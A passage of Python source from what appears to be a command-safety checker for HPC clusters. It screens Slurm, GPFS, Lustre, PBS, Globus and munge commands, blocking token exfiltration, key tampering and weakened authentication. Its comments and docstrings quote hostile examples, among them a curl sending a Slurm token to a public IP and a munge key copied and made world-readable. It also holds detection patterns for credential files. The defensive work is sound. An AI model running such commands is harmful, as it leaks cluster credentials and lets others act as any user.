    who = next((w.value for w in option_value(cmd.args, "--identity") if w.value), None)
    email = next((w.value for w in option_value(cmd.args, "--notify-email") if w.value), None)
    if not ht.free_mail(who) and not ht.free_mail(email):
        return  # (bash/cloud.py judges the other shares)
    target = next((w for w in cmd.args[3:] if w.value is None or not w.value.startswith("-")), None)
    found = ht.grant_finding("identity", any(p is None or "w" in p for p in perms), who, email,
                             target.text if target is not None else "the collection")
    if found:
        (a.block if found[0] == "block" else a.review)(found[1], f"`globus endpoint permission create`: {found[2]}",
                                                      cmd.node)


def _globus_api(a, cmd: Cmd) -> None:
    """`curl -X POST …/v0.10/endpoint/$EP/access -d '{"DATA_TYPE": "access", …}'`: the access rule it makes."""
    from .api_calls import request_body
    from .net import http_requests

    reader = http_requests(cmd.name)
    if reader is None:
        return
    for r in reader(cmd.args):
        if r.verb not in ("POST", "PUT"):
            continue
        for u in r.urls:
            text = u.value if u.value is not None else u.text
            if ht.ACL_PATH.search(text):
                found = ht.acl_finding(request_body(a, cmd, r), "the collection")
                if found:
                    (a.block if found[0] == "block" else a.review)(found[1], f"`{cmd.name}` to Globus's access API: "
                                                                             f"{found[2]}", cmd.node)
                return


_JWT_REF = re.compile(r"\$\{?SLURM_JWT\b")
_TOKEN_MADE = re.compile(rb"\bscontrol\s++(?:-\S++\s++)*+token\b")


def _token_sent(a, cmd: Cmd) -> None:
    """`curl -H "X-SLURM-USER-TOKEN: $(scontrol token)" http://45.9.148.12:6820/…`: a Slurm token in a request's
    header is sent where the request goes (ecosystems.TOKEN_PRINTERS lets it through to the organisation's own
    slurmrestd)."""
    from .brokers import destinations

    # (`export $(scontrol token)` sets SLURM_JWT, the form Slurm's own documents show)
    if not any("scontrol" in w.text and "token" in w.text or _JWT_REF.search(w.text) for w in cmd.args) or \
            not any("scontrol" in w.text for w in cmd.args) and not in_input(_TOKEN_MADE, a.doc.data):
        return
    far = [h for h in destinations(cmd) if h != "?" and (public_ip(h) or stranger_sink(h))]
    if far:
        a.block("exfiltration", f"`{cmd.name}` sends a Slurm token (`scontrol token`) to {far[0]}, a host no name of "
                                "the organisation vouches for: whoever holds it runs and cancels jobs as that user "
                                "until it expires; send it only to the cluster's own slurmrestd", cmd.node)


# -- root's upkeep of the cluster (bash/system.py's inspection) -------------------------------------------------------
# (system.check_privilege has made sure the program and the wrappers after sudo are the system's own)
_SCONTROL_FLAGS = frozenset({"-a", "--all", "-d", "-dd", "--details", "-o", "--oneliner", "-Q", "--quiet", "-v",
                             "--verbose", "--json", "--yaml", "--local", "--sibling", "--federation", "-F", "--future"})
_SCONTROL_READS = frozenset({"show", "ping", "version", "listpids", "listjobs", "liststeps", "getaddrs"})
_DRAIN_STATES = frozenset({"drain", "resume", "undrain"})
_NODE_WORD = re.compile(r"^[\w.\[\],-]+$")


def _scontrol_upkeep(cmd: Cmd, vals: list[str], pos: list[str]) -> str | None:
    if any(v[:1] == "-" and v.split("=", 1)[0] not in _SCONTROL_FLAGS | _SLURM_ARG for v in vals):
        return None
    if pos[:1] and pos[0].lower() in _SCONTROL_READS:
        return "read-only query"
    if not pos or pos[0].lower() != "update":
        return None
    pairs = _node_update(pos)
    nodes = pairs.get("nodename", "")
    # (`NodeName=ALL`: the whole cluster drained is a person's call)
    if len(pairs) != len(pos) - 1 or not pairs.keys() <= {"nodename", "state", "reason"} or \
            _state(pairs.get("state", "")) not in _DRAIN_STATES or not _NODE_WORD.match(nodes) or \
            "all" in nodes.lower().split(","):
        return None
    return "nodes drained or resumed"


_SACCT_FLAGS = frozenset({"-i", "--immediate", "-n", "--noheader", "-p", "--parsable", "-P", "--parsable2", "-Q",
                          "--quiet", "-s", "--associations", "-v", "--verbose", "-r", "--readonly", "--json", "--yaml"})
_MEMBER_KEYS = frozenset({"name", "account", "defaultaccount", "partition", "cluster", "wckey", "defaultwckey"})
_PLAIN_LIST = re.compile(r"^[\w.-]+(?:,[\w.-]+)*$")


def _sacctmgr_upkeep(cmd: Cmd, vals: list[str], pos: list[str]) -> str | None:
    if any(v[:1] == "-" and v.split("=", 1)[0] not in _SACCT_FLAGS for v in vals):
        return None
    s = _sacct_of(cmd)
    if s is None:
        return None
    if s.verb == "list":
        return "read-only query"
    # `sacctmgr -i add user jdoe account=physics-lab`: an existing login given a share of an account's allocation
    if s.verb != "add" or s.entity != "user" or len(s.names) > 1 or s.where or \
            not s.sets.keys() <= _MEMBER_KEYS or not all(_PLAIN_LIST.match(v) for vs in s.sets.values() for v in vs) \
            or any(_PLAIN_LIST.match(n) is None for n in s.names) or \
            "root" in _listed(s.sets.get("account", []) + s.sets.get("defaultaccount", [])) or \
            "root" in _listed(s.names + s.sets.get("name", [])):
        return None
    return "a user added to an account"


# the file systems' read-only queries
_GPFS_READS = frozenset({"mmdf", "mmrepquota", "mmgetstate", "mmlsfs", "mmlsquota", "mmlsfileset", "mmlsdisk",
                         "mmlscluster", "mmlssnapshot", "mmlsmount", "mmlsnsd", "mmlsattr", "mmlspolicy", "mmlsconfig",
                         "mmlsnode", "mmlsmgr", "mmlspool", "mmlsqos"})
# mmapplypolicy's options that only choose what is read and where it runs (not `-M`: its definitions go to the m4
# that preprocesses the policy, and m4's `esyscmd` runs a shell command as root)
_POLICY_ARG = frozenset({"-L", "-N", "-g", "-s", "-m", "-n", "-B", "-a", "--scope"})
_ROOT_POLICY = ("/var/mmfs/", "/usr/lpp/mmfs/", "/etc/")


def _mmapplypolicy_test(cmd: Cmd, vals: list[str], pos: list[str]) -> str | None:
    """`mmapplypolicy gpfs01 -P /var/mmfs/etc/purge.pol -I test -L 2`: the policy evaluated, nothing done."""
    i, mode, policy, operands = 0, None, None, []
    while i < len(vals):
        v = vals[i]
        i += 1
        if v in ("-I", "-P") and i < len(vals):
            mode, policy = (vals[i], policy) if v == "-I" else (mode, vals[i])
            i += 1
        elif v in _POLICY_ARG and i < len(vals):
            if v in ("-g", "-s") and (paths.kinds(vals[i]) or ".." in vals[i]):
                return None  # (its work files written as root into a system or home folder)
            i += 1
        elif v[:1] == "-":
            return None
        else:
            operands.append(v)
    ok = mode == "test" and len(operands) <= 1 and (
        policy is None or policy.startswith(_ROOT_POLICY) and ".." not in policy)
    return "policy evaluated (`-I test`)" if ok else None


_LFS_READS = frozenset({"quota", "df", "getstripe", "getdirstripe", "find", "path2fid", "fid2path", "osts", "mdts",
                        "getname", "check", "hsm_state", "data_version"})


def _nginx_stage(cmd: Cmd, vals: list[str], pos: list[str]) -> str | None:
    """Open OnDemand's per-user web servers listed, or the idle ones stopped (`nginx_clean` without `--force`)."""
    if not pos or pos[0] not in ("nginx_list", "nginx_show", "app_list", "nginx_clean", "app_clean") or \
            any(v in ("-f", "--force") for v in vals):
        return None
    return "Open OnDemand's per-user servers listed or cleaned up"


# pbsnodes's listing flags (all, the down ones, verbose, XML, quiet, summaries, jobs, notes); `-s SERVER` and `-F
# FORMAT` take a value. Anything else (-o/-r/-c offline and clear, -C/-N/-A notes, Torque's -m power states) changes
# the nodes.
_PBSNODES_LIST = frozenset("alvxqSHLjn")


def _pbsnodes(cmd: Cmd, vals: list[str], pos: list[str]) -> str | None:
    i = 0
    while i < len(vals):
        v = vals[i]
        i += 1
        if v in ("-s", "-F"):
            i += 1
        elif v[:1] == "-" and (len(v) < 2 or not set(v[1:]) <= _PBSNODES_LIST) or \
                v[:1] != "-" and not _NODE_WORD.match(v):
            return None
    return "read-only query"


_QMGR_READ = re.compile(r"(?i)^\s*+(?:l|li|lis|list|p|pr|pri|prin|print)\s")


def _qmgr(cmd: Cmd, vals: list[str], pos: list[str]) -> str | None:
    """`qmgr -c 'print server'`, `qmgr -c 'list queue workq'`: every command a listing."""
    if len(vals) % 2 or not vals or any(v != "-c" for v in vals[::2]):
        return None
    return "read-only query" if all(_QMGR_READ.match(c) for c in vals[1::2]) else None


def _reads(cmd: Cmd, vals: list[str], pos: list[str]) -> str:
    return "read-only query"


_ROOT_QUERIES = {
    "scontrol": _scontrol_upkeep, "sacctmgr": _sacctmgr_upkeep, "mmapplypolicy": _mmapplypolicy_test,
    **dict.fromkeys(("sinfo", "squeue", "sacct", "sreport", "sshare", "sprio", "sstat", "qstat"), _reads),
    "sdiag": lambda cmd, vals, pos: None if any(v in ("-r", "--reset") for v in vals) else "read-only query",
    **dict.fromkeys(_GPFS_READS, _reads),
    "mmhealth": lambda cmd, vals, pos: "read-only query" if len(pos) >= 2 and pos[1] == "show" else None,
    "lfs": lambda cmd, vals, pos: "read-only query" if pos[:1] and pos[0] in _LFS_READS else None,
    "nginx_stage": _nginx_stage, "pbsnodes": _pbsnodes, "qmgr": _qmgr,
}


def root_upkeep(cmd: Cmd, vals: list[str]) -> str | None:
    """bash/system.py's inspection: the cluster's queries and upkeep (the module's notes) run by a plain `sudo`."""
    from .backups import _plain_sudo

    check = _ROOT_QUERIES.get(cmd.name)
    if check is None or not _plain_sudo(cmd):
        return None
    pos = [w.value or "" for w in positionals(cmd.args, _SLURM_ARG)] if cmd.name in ("scontrol", "sacctmgr") else \
        [v for v in vals if v[:1] != "-"]
    found = check(cmd, vals, pos)
    return f"`{cmd.name}`'s {found}" if found else None


# -- admin.py's hooks: configurations written, permissions changed ----------------------------------------------------
_CLUSTER_ETC = frozenset({"munge", "slurm", "slurm-llnl", "pbs", "ood", "jupyterhub", "lmod", "clustershell"})
# a mode that gives every user read or write (`644`, `0666`, `o+r`, `a+rw`, `+r`, each part of `u=rw,g=r,o=r`); one
# that gives no one but the owner anything; an owner and group (`munge:munge`, `slurm.slurm`)
_OPEN_MODE = re.compile(r"^0?[0-7]?[0-7][0-7][2-7]$|^(?:[ug]*[oa][ugoa]*|)[+=][rwxX]*[rw]")
_PRIVATE_MODE = re.compile(r"^(?:0?[0-7]00|go-[rwx]++|[ugoa]*+-[rwx]++)$")
_OWNER_SEP = re.compile(r"[:.]")
# the keys that sign: munge's and Slurm's JWT key (a key written out in the input is known to whoever wrote it)
_SIGNING_KEY = re.compile(r"^/etc/munge/[^/]*key[^/]*$|/[^/]*jwt[^/]*$")


def _edited_text(a, cmd: Cmd, w: Word) -> str | None:
    """What `cmd` puts in the file `w`: a sed edit's replacements and added lines, else admin.written_text."""
    from .admin import written_text

    if cmd.name in ("sed", "gsed"):
        from .sed import line_edits, substitutions

        scripts = [x.value for x in cmd.args if x.value and not x.value.startswith("-")]
        return "\n".join([r for _, r in substitutions(cmd)] + [t for _, t in line_edits(scripts)])
    return written_text(a, cmd, w)


def _key_file(path: str) -> bool:
    """A credential of the cluster (hpc_tables.held_file, wherever Slurm is installed) or munge's folder's files; not
    Open OnDemand's portal settings, which the package ships readable (0644) and hold a secret only when a site puts
    its OIDC client's there."""
    return path[:1] == "/" and (ht.held_file(path) and not ht.OOD_PORTAL.search(path) or path.startswith("/etc/munge/"))


def _key_harm(path: str) -> str:
    if _SIGNING_KEY.search(path):
        return "with it anyone forges every user's credentials (root's too) on every node that trusts it"
    if path.startswith("/var/spool/pbs/server_priv"):
        return "PBS's server_priv holds the server's own secrets (its database password, the jobs' credentials)"
    if "globus" in path or "deployment" in path:
        return "the deployment key is the Globus endpoint's own credential"
    return "it holds the accounting database's password"


def _key_source(a, cmd: Cmd, w: Word) -> str | None:
    """Where what `cmd` writes into the key file `w` comes from, as a URL: a download into it (`curl -o W URL`, `curl
    URL | sudo dd of=W`), a file an earlier download of the input wrote (`curl -o /tmp/k URL && sudo cp /tmp/k W`), or
    another machine (`scp ops@HOST:/k W`)."""
    from .admin import _fetched_into
    from .common import DOWNLOADERS, commands_named, feeders
    from .files import copy_sources

    src = _fetched_into(a, cmd, w)
    if src:
        return src
    for c in feeders(a, cmd, DOWNLOADERS):
        return next((v for v in _vals(c.args) if "://" in v), None)
    if cmd.name not in ("cp", "install", "mv", "scp", "rsync"):
        return None
    sources = [x.value for x in copy_sources(cmd, w) if x.value]
    for s in sources:
        host, colon, _ = s.partition(":")
        if colon and "/" not in host and cmd.name in ("scp", "rsync"):
            return f"ssh://{host}/"
    wanted = {paths.normalize(s) for s in sources}
    for c in commands_named(a, DOWNLOADERS):
        if c.node.start_byte < cmd.node.start_byte and any(
                paths.normalize(x.value) in wanted for x in option_value(c.args, "-o", "--output", "-O",
                                                                           "--output-document", cluster="oO")
                if x.value):
            return next((v for v in _vals(c.args) if "://" in v), None)
    return None


def config_write(a, cmd: Cmd, w: Word, value: str) -> bool:
    """admin.judge_write's hook: the cluster's authentication turned off in what `cmd` writes to `value`, or one of
    its keys replaced by a download from a stranger's host or by a key the input writes out; True when blocked
    here."""
    path = paths.normalize(value)
    if not (ht.SLURM_CONF.search(path) or ht.OOD_PORTAL.search(path) or ht.JUPYTERHUB_CONF.search(path) or
            _key_file(path)):
        return False
    text = _edited_text(a, cmd, w)
    off = ht.auth_off(path, text or "")
    if off is not None:
        a.block("permission-tamper", f"`{cmd.name}` writes {path}: {off}; keep the authentication on", w.node)
        return True
    if not _key_file(path):
        return False
    src = _key_source(a, cmd, w)
    host = _stranger_url(src) if src and "://" in src else None
    if host:
        a.block("privilege-escalation", f"`{cmd.name}` replaces {path}, a key the cluster trusts, with one fetched "
                                        f"from {host}: {_key_harm(path)}; make keys on the cluster (`mungekey`) and "
                                        "copy them between its own nodes", w.node)
        return True
    if _SIGNING_KEY.search(path) and text and text.strip() and "$" not in text and "`" not in text:
        a.block("privilege-escalation", f"`{cmd.name}` writes {path} from text written out in the input: whoever "
                                        f"wrote it knows the key, and {_key_harm(path)}; make keys on the cluster "
                                        "(`mungekey`, `dd if=/dev/urandom`)", w.node)
        return True
    return False


def _key_copy(a, cmd: Cmd, path: str) -> str | None:
    """The cluster's key an earlier `cp`/`install` of the input copied to `path` (`sudo cp /etc/munge/munge.key
    /tmp/mk && sudo chmod 666 /tmp/mk`)."""
    from .common import commands_named
    from .files import copy_sources, write_targets

    for c in commands_named(a, ("cp", "install", "rsync")):
        if c.node.start_byte >= cmd.node.start_byte:
            continue
        for t in write_targets(c):
            there = paths.normalize(t.value or "")
            keys = [s.value for s in copy_sources(c, t) if s.value and _key_file(paths.normalize(s.value))]
            if keys and (there == path or path.startswith(there.rstrip("/") + "/")):
                return keys[0]
    return None


def _opened(a, cmd: Cmd, w: Word, mode: str) -> bool:
    """Whether `chmod mode w` gives every user the cluster's key (or a copy of it the input made): blocked, True."""
    p = paths.normalize(w.value or "")
    whole = p.rstrip("/") == "/etc/munge" and has_flag(cmd.args, "R", ("--recursive",))  # (the key with it)
    if cmd.name != "chmod" or not any(_OPEN_MODE.match(m) for m in mode.split(",")):
        return False
    key = p if _key_file(p) or whole else _key_copy(a, cmd, p)
    if key is None:
        return False
    copy = f" (a copy of {key})" if key != p else ""
    harm = _key_harm("/etc/munge/munge.key" if whole else paths.normalize(key))
    a.block("permission-tamper", f"`chmod {mode}` makes {p}{copy}, a credential of the cluster, readable by every "
                                 f"user: {harm}; keep it 0400/0600, owned by its service", w.node)
    return True


def _chmod(a, cmd: Cmd) -> None:
    """Root's `chmod` of a path no system rule reads (files.py hands only system, home and secret paths to
    perm_change): the cluster's key where Slurm is installed under /opt, or a copy of a key the input made."""
    from .admin import root_change

    pos = positionals(cmd.args, frozenset({"--reference"}))
    if len(pos) < 2 or not root_change(a, cmd):
        return
    for w in pos[1:]:
        if w.value is not None and not paths.kinds(w.value):
            _opened(a, cmd, w, pos[0].value or "")


def perm_change(a, cmd: Cmd, w: Word, mode: str) -> bool:
    """admin.perm_change's hook (root's change): a credential of the cluster (or a copy the input made of it) made
    readable by every user is blocked; the cluster services' own folders under /etc handed to their account or made
    private are reviewed. True when judged here."""
    if _opened(a, cmd, w, mode):
        return True
    p = paths.normalize(w.value or "")
    parts = p.split("/")
    if len(parts) != 3 or parts[1] != "etc" or parts[2] not in _CLUSTER_ETC:
        return False
    if cmd.name == "chmod" and _PRIVATE_MODE.match(mode) or \
            cmd.name in ("chown", "chgrp") and set(_OWNER_SEP.split(mode)) <= {parts[2], "root", ""}:
        a.review("permission-tamper", f"`{cmd.name} {mode}` on {p}, the folder of the cluster's service {parts[2]}; "
                                      "root changes the machine: a person should look", w.node)
        return True
    return False


HANDLERS: dict = {
    "sacctmgr": [_sacctmgr], "scontrol": [_scontrol],
    **dict.fromkeys(_MM_DELETES, [_gpfs]), "mmapplypolicy": [_gpfs],
    "mkfs.lustre": [_mkfs_lustre], "lfs": [_lfs],
    "clush": [_on_nodes], "pdsh": [_on_nodes], "pdcp": [_on_nodes], "chmod": [_chmod],
    **{n: [_apptainer] for n in _APPTAINER},
    "spack": [_spack], "eb": [_eb], "globus": [_globus],
    **{n: [_globus_api, _token_sent] for n in ("curl", "wget", "http", "https", "xh")},
}

_SPACK = mentions("verify_ssl", "mirror", "--no-check-signature", "--unsigned", "-u", "--no-checksum", "keys", "-k",
                  "--insecure", "trust")
SCREENS: dict = {
    # (sacctmgr's words by their prefixes: `ad=` AdminLevel, `ac=`/`acct=` Account, `del`, `rem`, `arc`, `lo`ad; its
    # commands fed on the standard input: a pipe, a redirect or a here-document)
    "sacctmgr": Screen(re.compile(r"(?i)(?<![\w-])ad\w*+[+-]?=|root|(?<![\w-])(?:del|rem|arc|lo)|[|<\n]")),
    "scontrol": mentions("update", "shutdown", fold=True),
    "mkfs.lustre": mentions("/dev/"), "lfs": mentions("rmfid"),
    "clush": _node_screen, "pdsh": _node_screen, "pdcp": Screen(_PDCP_SCREEN),
    "chmod": mentions("munge", "slurmdbd", "acct_gather", "jwt", "server_priv", "deployment-key"),
    **{n: (lambda text: ("exec" in text or "run" in text) and _runs_commands(text)) for n in _APPTAINER},
    "spack": _SPACK, "eb": mentions("--ignore-checksums", "IGNORE_CHECKSUMS"),
    "globus": Screen(re.compile(r"@|role")),
    **{n: mentions("/access", "scontrol", "SLURM_JWT") for n in ("curl", "wget", "http", "https", "xh")},
}
# (mmapplypolicy and the GPFS deletes have no screen: every run is judged)
